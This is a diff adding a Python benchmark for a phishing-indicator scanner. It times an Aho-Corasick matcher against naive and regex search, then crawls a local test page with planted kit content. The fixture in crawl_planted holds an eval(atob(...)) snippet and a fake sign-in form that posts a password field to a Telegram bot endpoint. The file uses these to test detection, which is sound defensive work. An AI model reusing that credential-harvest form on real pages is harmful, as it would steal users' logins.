@@ -0,0 +1,159 @@
+"""
+Multi-pattern indicator matching: check the Aho-Corasick automaton against
+a naive search per pattern (counts, offsets, case folding and chunked
+streaming), time it against one search per pattern and a regex
+alternation as the number of patterns grows, and crawl a page with
+planted kit content to see the streamed body scan end to end.
+
+Run from the backend directory:
+    python -m benchmarks.bench_indicators [--patterns 3000] [--megabytes 2]
+"""
+import argparse
+import asyncio
+import random
+import re
+import string
+import time
+
+from app.agents.aho_corasick import AhoCorasick
+from app.agents.crawler import Crawler
+from app.agents.http_engine import HttpEngine
+from app.agents.indicators import indicators
+from app.agents.rate_limiter import RateLimiter
+from benchmarks.lab import ContentServer
+
+
+def random_word(rng: random.Random, low: int = 4, high: int = 12) -> str:
+    return "".join(rng.choice(string.ascii_lowercase + "._/-(") for _ in range(rng.randint(low, high)))
+
+
+def corpus(rng: random.Random, patterns, size: int) -> str:
+    """Random text of about `size` characters with patterns planted in it, some upper-cased"""
+    parts, length = [], 0
+    while length < size:
+        if rng.random() < 0.05:
+            part = rng.choice(patterns)
+            part = part.upper() if rng.random() < 0.2 else part
+        else:
+            part = random_word(rng, 1, 10)
+        parts.append(part)
+        length += len(part) + 1
+    return " ".join(parts)
+
+
+def naive_counts(patterns, text: str):
+    """Overlapping occurrences of each pattern, one str.find loop per pattern"""
+    text = text.lower()
+    counts = {}
+    for index, pattern in enumerate(patterns):
+        count, start = 0, text.find(pattern)
+        while start >= 0:
+            count += 1
+            start = text.find(pattern, start + 1)
+        if count:
+            counts[index] = count
+    return counts
+
+
+def check_equivalence(rng: random.Random):
+    # Overlapping patterns, prefixes and suffixes of each other, and duplicates
+    patterns = ["he", "she", "his", "hers", "her", "e", "ushers", "she", "h.e", "(he"]
+    patterns += list({random_word(rng, 1, 6) for _ in range(500)})
+    automaton = AhoCorasick(patterns)
+    for _ in range(20):
+        text = corpus(rng, patterns, 20000)
+        expected = naive_counts([pattern.lower() for pattern in patterns], text)
+        assert automaton.counts(text) == expected
+        assert automaton.counts(text.upper()) == expected
+        chunked = automaton.scanner()
+        encoded, position = text.encode(), 0
+        while position < len(encoded):
+            step = rng.randint(1, 300)
+            chunked.feed(encoded[position:position + step])
+            position += step
+        assert chunked.counts() == expected
+        lowered = text.lower()
+        assert sorted(automaton.finditer(text)) == sorted(
+            (match.start(), index) for index, pattern in enumerate(patterns)
+            for match in re.finditer(f"(?={re.escape(pattern.lower())})", lowered)
+        )
+        first = automaton.search(text)
+        assert first is None if not expected else first in expected
+    # Case folding can be turned off
+    exact = AhoCorasick(["Login"], ignore_case=False)
+    assert exact.counts("login LOGIN Login") == {0: 1}
+    print(f"equivalence: counts, offsets, case folding and chunked streams match the naive search "
+          f"for {len(patterns)} patterns")
+
+
+def timed(function, *args, repeat: int = 1):
+    started = time.perf_counter()
+    for _ in range(repeat):
+        result = function(*args)
+    return (time.perf_counter() - started) / repeat, result
+
+
+def compare(rng: random.Random, pattern_counts, megabytes: float):
+    size = int(megabytes * 2 ** 20)
+    print(f"{'patterns':>9} {'states':>8} {'build':>8} {'automaton':>12} {'per pattern':>12} {'regex':>12}")
+    for count in pattern_counts:
+        patterns = list({random_word(rng) for _ in range(count)})
+        text = corpus(rng, patterns, size)
+        build, automaton = timed(AhoCorasick, patterns)
+        scan, counts = timed(automaton.counts, text)
+        # One search per pattern and the regex alternation are timed on a slice and scaled up
+        sample = text[:size // 8].lower()
+        per_pattern, _ = timed(lambda: [pattern in sample for pattern in patterns])
+        alternation = re.compile("|".join(re.escape(pattern) for pattern in patterns), re.I)
+        regex, _ = timed(lambda: alternation.findall(sample))
+        assert set(counts) == {index for index, pattern in enumerate(patterns) if pattern in text.lower()}
+        rate = lambda seconds, share=1: f"{megabytes / share / seconds:8.3g} MB/s"
+        print(f"{len(patterns):>9} {automaton.states:>8} {build:7.2f}s {rate(scan):>12} "
+              f"{rate(per_pattern, 8):>12} {rate(regex, 8):>12}")
+
+
+def bundled(rng: random.Random):
+    urls = [
+        f"http://{random_word(rng)}.example.com/{random_word(rng)}/{rng.choice(['login', 'index', 'next.php'])}"
+        f"?id={rng.randrange(10 ** 6)}"
+        for _ in range(100000)
+    ]
+    elapsed, _ = timed(lambda: [indicators.scan(url, "url") for url in urls])
+    print(f"bundled url indicators: {len(urls) / elapsed:,.0f} URLs/s; {indicators.get_stats()}")
+
+
+async def crawl_planted():
+    kit = ('<html><head><title>Sign in</title><script>eval(atob("ZG9jdW1lbnQ="))</script></head><body>'
+           + "<p>filler</p>" * 5000
+           + '<form action="https://api.telegram.org/bot123/sendMessage" method="post">'
+             '<h1>Verify your account</h1><input name="passwd" type="password"></form></body></html>').encode()
+    server = ContentServer({"/": (200, {}, kit)})
+    url = await server.start()
+    engine = HttpEngine()
+    try:
+        session = engine.session(RateLimiter().for_agent("web_classifier"))
+        return await Crawler(session, max_depth=0, indicators=indicators).crawl(url)
+    finally:
+        await engine.aclose()
+        await server.stop()
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument("--patterns", type=int, default=3000)
+    parser.add_argument("--megabytes", type=float, default=2.0)
+    args = parser.parse_args()
+    rng = random.Random(0)
+
+    check_equivalence(rng)
+    compare(rng, sorted({30, 300, args.patterns}), args.megabytes)
+    bundled(rng)
+
+    page = asyncio.run(crawl_planted())["pages"][0]
+    assert set(page["content_indicators"]) == {"obfuscated_js", "credential_harvest", "exfiltration_endpoint"}, page
+    print(f"crawl: {page['bytes']} byte page streamed through the content automaton, "
+          f"found {sorted(page['content_indicators'])}")
+
+
+if __name__ == "__main__":
+    main()